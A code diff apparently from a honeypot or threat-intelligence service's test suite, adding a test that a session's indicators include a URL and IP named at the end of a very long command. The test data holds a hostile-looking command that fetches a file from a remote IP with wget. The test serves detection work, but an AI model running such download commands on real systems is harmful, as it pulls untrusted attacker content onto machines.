@@ -97,6 +97,17 @@ describe.each(inject('postgresServers'))('indicator feeds on $version', (server)
     expect((await get('/feeds/blocklist.txt', { 'if-none-match': etag })).status).toBe(200)
   })
 
+  test('a session shows what the end of a long command names', async () => {
+    const command = `echo ${'A'.repeat(17_000)} > /tmp/a; wget http://45.9.148.98/late`
+    const { session_id } = await send('203.0.113.98', command)
+    const { items } = (await (await get(`/sessions/${session_id}/iocs`)).json()) as { items: Indicator[] }
+    expect(items.map(({ value }) => value)).toEqual([
+      '203.0.113.98',
+      'http://45.9.148.98/late',
+      '45.9.148.98',
+    ])
+  })
+
   test('a session shows its source and downloads, and as context what it only named', async () => {
     const { items } = (await (await get(`/sessions/${session}/iocs`)).json()) as { items: Indicator[] }
     expect(items.map(({ value, role, context }) => [value, role, context])).toEqual([
